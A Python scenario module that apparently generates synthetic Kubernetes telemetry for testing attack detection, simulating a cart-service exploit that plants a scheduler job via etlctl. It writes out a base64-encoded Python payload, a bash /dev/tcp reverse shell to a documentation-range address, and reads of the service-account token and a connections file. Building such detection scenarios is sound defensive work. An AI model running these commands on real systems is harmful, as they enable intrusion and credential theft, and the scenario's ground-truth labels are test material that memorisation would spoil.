"""Lateral movement through an in-cluster service: a request through the shop frontend exploits
the cart service (a Python payload its gunicorn worker runs); the payload writes a job script and
uses the ETL scheduler's own client (``etlctl``) to register it with the scheduler in another
namespace.  Minutes later the scheduler pod's own main process runs the job like every other
job, and the job opens a reverse shell out of the cluster; the attacker looks around and reads
the pod's token.

Look-alikes: the scheduler runs job scripts from the same folder every few minutes (one of them
uploads to S3 outside the cluster), the ETL dashboard calls the scheduler's API all the time
and an engineer's job update is written the same way, and the cart calls the database."""

from __future__ import annotations

import base64
from pathlib import Path

from .. import falco as fc
from ..topology import Workload
from . import Scenario
from .kit import (
    MAY_READ,
    MAY_WRITE,
    MS,
    NS,
    add_pod,
    command,
    connect_out,
    connect_pod,
    every,
    file_hook,
    finish,
    http,
    ingress_controller,
    pod_ref,
    run,
    via_ingress,
    world,
)
from .truth import Endpoint, Truth

NAME = "lateral-service"
DESCRIPTION = ("An exploited cart service's Python payload used the in-cluster ETL scheduler's "
               "client (etlctl) to plant a job in the scheduler of namespace etl; minutes later "
               "the scheduler's own process ran it, and it opened a reverse shell out of the cluster.")
SCHED_FQDN = "scheduler.etl.svc.cluster.local"
S3 = ("52.218.100.12", "acme-etl-exports.s3.eu-west-1.amazonaws.com")
C2 = ("203.0.113.199", 443)
JOBS = "/var/lib/etl/jobs"
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"


def build(out_dir: Path, seed: int) -> Truth:
    """Write the capture; see the module docstring."""
    w = world(seed, minutes=25)
    rng = w.rng
    sim = w.sim
    c = sim.cluster
    wl = Workload("etl", "etl-scheduler", "Deployment", {"app": "etl-scheduler"},
                  "ghcr.io/acme-data/etl-scheduler:3.2.0", "/usr/local/bin/python3.11",
                  "-m etl.scheduler --jobs-dir /var/lib/etl/jobs --api :8080", "scheduler",
                  cwd="/srv/etl", uid=1000, port=8080, serviceaccount="etl-scheduler")
    sched = add_pod(w, wl, w.node(1) if rng.random() < 0.5 else w.node(2))
    c.services[SCHED_FQDN] = f"10.96.{rng.randint(1, 254)}.{rng.randint(1, 254)}"
    smain = sim.pod_proc(sched)
    uwl = Workload("etl", "etl-dashboard", "Deployment", {"app": "etl-dashboard"},
                   "ghcr.io/acme-data/etl-dashboard:3.2.0", "/usr/local/bin/node", "dist/server.js",
                   "dashboard", cwd="/app", uid=1000, port=3000, serviceaccount="default")
    ui = add_pod(w, uwl, w.node(2) if sched.node is w.node(1) else w.node(1))
    uimain = sim.pod_proc(ui)
    db = c.pods_of("db")[0]

    # the scheduler's routine: its jobs, from the jobs folder, by its own main process
    def job(t: int, name: str) -> None:
        sh = run(w, smain, t, "/bin/sh", f"{JOBS}/{name}.sh", exit_=False)
        if name == "refresh-views":
            p = run(w, sh, t + 4 * MS, "/usr/bin/psql",
                    "-h db.shop.svc.cluster.local -U etl -c REFRESH MATERIALIZED VIEW sales_daily",
                    exit_=False)
            end = connect_pod(w, p, t + 6 * MS, db, 5432, "db.shop.svc.cluster.local",
                              dur_ms=rng.randint(200, 1500))
        else:
            p = run(w, sh, t + 4 * MS, "/usr/local/bin/aws",
                    f"s3 cp /tmp/export.parquet s3://acme-etl-exports/{t // NS}.parquet",
                    exit_=False)
            end = connect_out(w, p, t + 9 * MS, S3[0], 443, S3[1], dur_ms=rng.randint(900, 3000))
        sim.exit_(p, end + 2 * MS)
        sim.exit_(sh, end + 6 * MS)

    minute = 60 * NS
    t = w.start - w.start % (2 * minute) + 2 * minute
    while t < w.end:
        job(t + rng.randint(5, 60) * MS, "refresh-views")
        if (t // minute) % 5 == 0:
            job(t + rng.randint(100, 400) * MS, "export-s3")
        t += 2 * minute
    for t in every(w, 20):
        connect_pod(w, uimain, t, sched, 8080, http=http(w, "GET", f"http://{SCHED_FQDN}:8080/api/v1/jobs",
                                                          agent="node-fetch/1.0"))
    # an engineer updates a job from the dashboard: the scheduler writes the job file
    te = w.at(5 + rng.random())
    end = connect_pod(w, uimain, te, sched, 8080, http=http(
        w, "PUT", f"http://{SCHED_FQDN}:8080/api/v1/jobs/refresh-views", 201, "node-fetch/1.0"))
    file_hook(w, smain, end - 2 * MS, f"{JOBS}/refresh-views.sh", MAY_WRITE)

    # the exploit: through the frontend, into the cart
    _, nginx = ingress_controller(w, w.node(1))
    fe = c.pods_of("frontend")[0]
    cart = c.pods_of("cart")[0]
    femain, cmain = sim.pod_proc(fe), sim.pod_proc(cart)
    t0 = w.at(9 + rng.random())
    attacker = "198.51.100.61"
    via_ingress(w, nginx, attacker, fe, 8080, t0, "POST",
                "http://shop.acme.example/api/cart/import", 200, "python-requests/2.31.0",
                critical=True)
    end = connect_pod(w, femain, t0 + 8 * MS, cart, 7070, "cart.shop.svc.cluster.local",
                      http=http(w, "POST", "http://cart.shop.svc.cluster.local:7070/cart/import",
                                200, "node-fetch/1.0", latency_ms=60), critical=True)
    job_text = f"bash -c 'bash -i >& /dev/tcp/{C2[0]}/{C2[1]} 0>&1'"
    code = ("import os,subprocess;open('/tmp/.cw.sh','w').write(" + repr(job_text + "\n")
            + ");subprocess.run(['etlctl','--server','http://" + SCHED_FQDN
            + ":8080','jobs','put','cache-warmup','--every','2m','--file','/tmp/.cw.sh'])")
    b64 = base64.b64encode(code.encode()).decode()
    py = run(w, cmain, end - 30 * MS, "/usr/local/bin/python3.12",
             f"-c import base64;exec(base64.b64decode('{b64}'))", exit_=False, critical=True)
    file_hook(w, py, py.start_ns + 20 * MS, "/tmp/.cw.sh", MAY_WRITE, critical=True)
    etlctl = run(w, py, py.start_ns + 40 * MS, "/usr/local/bin/etlctl",
                 f"--server http://{SCHED_FQDN}:8080 jobs put cache-warmup --every 2m "
                 "--file /tmp/.cw.sh", exit_=False, critical=True)
    end = connect_pod(w, etlctl, etlctl.start_ns + 5 * MS, sched, 8080, SCHED_FQDN,
                      http=http(w, "PUT", f"http://{SCHED_FQDN}:8080/api/v1/jobs/cache-warmup",
                                201, "etlctl/3.2.0"), critical=True)
    file_hook(w, smain, end - 2 * MS, f"{JOBS}/cache-warmup.sh", MAY_WRITE, critical=True)
    sim.exit_(etlctl, end + 3 * MS, critical=True)
    sim.exit_(py, end + 9 * MS, critical=True)

    # the scheduler runs it at its next 2-minute tick, like its other jobs
    tick = end - end % (2 * minute) + 2 * minute + rng.randint(5, 60) * MS
    jsh = run(w, smain, tick, "/bin/sh", f"{JOBS}/cache-warmup.sh", exit_=False, critical=True)
    rbash = run(w, jsh, tick + 3 * MS, "/bin/bash", f"-c bash -i >& /dev/tcp/{C2[0]}/{C2[1]} 0>&1",
                exit_=False, critical=True)
    ibash = run(w, rbash, tick + 5 * MS, "/bin/bash", "-i", exit_=False, critical=True)
    fc.emit_alert(sim.sink, ibash, tick + 6 * MS, "Redirect STDOUT/STDIN to Network Connection "
                  "in Container", evt_type="dup2", extra={"fd.name": f"{sched.ip}:"
                                                          f"{rng.randint(32768, 60999)}->"
                                                          f"{C2[0]}:{C2[1]}"}, critical=True)
    close = connect_out(w, ibash, tick + 5 * MS + 400_000, C2[0], C2[1],
                        dur_ms=rng.randint(200, 260) * 1000, critical=True)
    cmds = []
    tc = tick + 9 * NS
    for binary, args in (("/usr/bin/id", ""), ("/bin/ls", f"-la {JOBS}"),
                         ("/bin/cat", TOKEN), ("/usr/bin/env", ""),
                         ("/bin/cat", "/srv/etl/config/connections.yaml")):
        p = run(w, ibash, tc, binary, args, 3, critical=True)
        if args in (TOKEN, "/srv/etl/config/connections.yaml"):
            file_hook(w, p, tc + MS, args, MAY_READ, critical=True)
        cmds.append(p)
        tc += rng.randint(6, 25) * NS
    sim.exit_(ibash, close + MS, critical=True)
    sim.exit_(rbash, close + 2 * MS, critical=True)
    sim.exit_(jsh, close + 3 * MS, critical=True)

    return finish(w, out_dir, Truth(
        scenario=NAME, kind="attack", description=DESCRIPTION, seed=seed,
        entry=pod_ref(cart), key_command=command(etlctl), reached=[pod_ref(sched)],
        endpoints=[Endpoint(C2[0], C2[1], "c2")],
        techniques=["T1190", "T1059.006", "T1053", "T1059.004", "T1095", "T1552.007"],
        expected_incidents=1,
        attacker_exec_ids=[p.exec_id for p in (py, etlctl, jsh, rbash, ibash, *cmds)],
        decoys=["the scheduler runs /bin/sh /var/lib/etl/jobs/*.sh every 2 minutes",
                "a job uploads to S3 outside the cluster every 10 minutes",
                "the dashboard polls the scheduler API every 20 s and updates a job once"]))


SCENARIO = Scenario(NAME, "attack", DESCRIPTION, build, seed=13)
